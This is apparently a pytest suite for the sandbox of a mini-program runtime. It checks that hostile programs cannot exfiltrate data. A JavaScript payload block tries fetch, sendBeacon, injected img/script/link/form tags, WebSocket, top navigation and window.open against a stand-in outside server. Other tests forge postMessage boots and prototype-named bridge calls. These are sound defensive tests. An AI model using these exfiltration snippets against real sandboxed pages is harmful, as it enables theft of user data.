"""A program cannot reach anything but the bridge: every way out that was thought of, from the worker, by forged ops,
from the frame itself, and by forged messages."""

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from tests.superapp.runtime.conftest import Opener, add_program
from tests.superapp.runtime.site import Running, Site

# It opens, but each sandboxed frame has an origin of its own: nobody else can listen (the last test shows it).
HARMLESS = {"BroadcastChannel"}


class Outside:
    """A server of somebody else, which counts what arrives."""

    def __init__(self) -> None:
        self.hits: list[str] = []

        async def hit(request: Request) -> Response:
            self.hits.append(str(request.url.path) + ("?" + request.url.query if request.url.query else ""))
            return Response("1", headers={"access-control-allow-origin": "*"})

        self.running = Running(Starlette(routes=[Route("/{path:path}", hit)]))
        self.origin = self.running.origin


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside()
    yield server
    server.running.stop()


async def test_nothing_leaves_the_worker_and_forged_ops_draw_nothing_live(
    open_program: Opener, outside: Outside
) -> None:
    program = await open_program("hostile", f"pages/index/index?out={quote(outside.origin, safe='')}")
    await program.said("forged")
    for name in ("fetch", "FontFace", "import()", "nested Worker", "indexedDB", "setTimeout text"):
        await program.said(f"try {name} ")

    tried = [line.partition("try ")[2] for line in program.logs if "try " in line]
    opened = {name.removesuffix(" open") for name in tried if name.endswith(" open")}
    assert len(tried) >= 20, tried
    assert opened - HARMLESS == set()
    alive = await program.frame.evaluate(
        """[...document.querySelectorAll('script, iframe, object, embed, link, [onclick], [onerror], [srcdoc]')]
        .filter((one) => !one.src?.endsWith('/view.js')).length"""
    )
    assert alive == 0
    assert await program.frame.locator("#hostile").is_visible()
    assert any("the view refused" in line for line in program.logs)
    assert outside.hits == []


FROM_THE_FRAME = """async (out) => {
  const tried = {};
  // What the debugger runs may evaluate text; a later turn is the frame's own.
  await new Promise((done) => setTimeout(done, 0));
  const sync = (name, run) => { try { tried[name] = run() !== false; } catch { tried[name] = false; } };
  const later = async (name, run) => { try { await run(); tried[name] = true; } catch { tried[name] = false; } };
  sync('eval', () => (0, eval)('1'));
  sync('Function', () => new Function('return 1')());
  sync('localStorage', () => localStorage);
  sync('parent document', () => parent.document.body);
  sync('window.open', () => window.open(out + '/open') !== null);
  sync('beacon', () => { navigator.sendBeacon(out + '/beacon', 'x'); return false; });
  await later('fetch', () => fetch(out + '/fetch'));
  await later('top navigation', async () => { top.location.href = out + '/top'; });
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  add('img', { src: out + '/img?secret' });
  add('script', { src: out + '/s.js' });
  add('link', { rel: 'stylesheet', href: out + '/c.css' });
  add('link', { rel: 'prefetch', href: out + '/p' });
  add('form', { action: out + '/form', method: 'post' });
  document.querySelector('form').submit();
  try { new WebSocket(out.replace('http', 'ws')); } catch { }
  await new Promise((done) => setTimeout(done, 300));
  return tried;
}"""


async def test_even_our_own_view_reaches_nothing(open_program: Opener, outside: Outside) -> None:
    program = await open_program("hostile")
    tried = await program.frame.evaluate(FROM_THE_FRAME, outside.origin)
    assert {name for name, worked in tried.items() if worked} <= {"top navigation"}  # it does not throw, nor navigate
    assert program.page.url.startswith("http://127.0.0.1")
    assert outside.origin not in program.page.url
    assert outside.hits == []


async def test_a_frame_cannot_carry_data_away_by_navigating_itself(open_program: Opener, outside: Outside) -> None:
    program = await open_program("hostile")
    await program.frame.evaluate(
        "(to) => { setTimeout(() => { location.href = to; }, 0); }", f"{outside.origin}/go?secret"
    )
    await program.said("stopped: the frame went elsewhere")
    assert outside.hits == []


async def test_without_the_hosts_frame_src_it_could(open_program: Opener, outside: Outside, site: Site) -> None:
    """The control: the listener does see a leak when the one directive is missing."""
    site.frame_src = "*"
    program = await open_program("hostile")
    await program.frame.evaluate(
        "(to) => { setTimeout(() => { location.href = to; }, 0); }", f"{outside.origin}/go?secret"
    )
    await program.page.wait_for_timeout(500)
    assert outside.hits == ["/go?secret"]


async def test_messages_from_other_windows_are_not_heard(open_program: Opener) -> None:
    program = await open_program("hostile")
    # To the host page: a boot of their own, a call, a close.
    await program.page.evaluate(
        """() => { const frame = document.createElement('iframe'); document.body.append(frame);
        for (const data of [{ kind: 'call', id: 1, api: 'login', arg: {} }, { kind: 'flood' }])
          frame.contentWindow.parent.postMessage(data, '*'); }"""
    )
    # To the view: a second boot, as if another page had found the frame.
    await program.page.evaluate(
        """() => { const one = new MessageChannel(), two = new MessageChannel();
        const boot = { kind: 'boot', code: ['postMessage(1)'], launch: {} };
        document.querySelector('sa-program iframe').contentWindow.postMessage(boot, '*', [one.port2, two.port2]); }"""
    )
    await program.page.wait_for_timeout(200)
    assert await program.page.get_attribute("sa-program", "data-state") == "ready"
    await program.text("#hostile", "hostile 0")


async def test_unknown_and_inherited_api_names_are_refused(open_program: Opener, site: Site) -> None:
    """From a worker that holds its own port, as a program does that found it."""
    program = await open_program("hostile", "pages/index/index?bridge=1")
    for name in ("constructor", "toString", "hasOwnProperty", "deleteEverything", "exitMiniProgram.x"):
        await program.said(f"bridge {name} refused {name}:fail not supported")
    await program.said("bridge forged done")
    await program.page.get_by_text("x", exact=True).wait_for()  # the toast of the one honest call among them
    assert await program.page.get_attribute("sa-program", "data-state") == "ready"
    assert await program.page.evaluate("({}).polluted === undefined")
    assert not any("bridge stolen" in line for line in program.logs)
    assert site.asked == []


async def test_random_drawing_makes_nothing_live_and_stops_nobody(open_program: Opener) -> None:
    for seed in (1, 2):
        program = await open_program("hostile", f"pages/index/index?ops={seed}")
        await program.said("random drawn")
        strange = await program.frame.evaluate(
            """[...document.body.querySelectorAll('*')].filter((one) => (!/^(WX-|PAGE$)/.test(one.tagName)
            && /^(SCRIPT|IFRAME|OBJECT|EMBED|LINK|META|BASE|STYLE|FORM|SVG|MATH)$/i.test(one.tagName))
            || one.getAttributeNames().some((name) => /^(on|srcdoc|href|action|formaction)/.test(name)))
            .map((one) => one.outerHTML.slice(0, 80))"""
        )
        assert strange == []
        assert await program.page.get_attribute("sa-program", "data-state") == "ready"
        assert not [line for line in program.logs if line.startswith("error")]


async def test_a_broadcast_reaches_neither_the_host_nor_a_sibling(open_program: Opener, outside: Outside) -> None:
    program = await open_program("kitchen")
    await program.page.evaluate(
        """() => { window.heard = 0; window.channel = new BroadcastChannel('superapp');
        window.channel.onmessage = () => { window.heard++; }; }"""
    )
    await add_program(program.page, "hostile", f"pages/index/index?out={quote(outside.origin, safe='')}")
    await program.said("try BroadcastChannel open")
    await program.said("forged")
    assert await program.page.evaluate("window.heard") == 0
    # The control: a page of the same origin is heard.
    await program.page.evaluate("() => { new BroadcastChannel('superapp').postMessage(1); }")
    await program.page.wait_for_function("() => window.heard === 1")
